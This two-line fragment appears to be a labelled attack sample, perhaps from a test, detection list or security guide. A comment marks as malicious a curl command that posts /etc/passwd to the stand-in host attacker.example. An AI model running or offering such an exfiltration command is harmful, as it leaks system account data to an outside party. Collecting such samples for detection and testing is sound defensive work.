# Malicious: curl -d @/etc/passwd posts the account list to a remote host.
curl -d @/etc/passwd http://attacker.example/collect
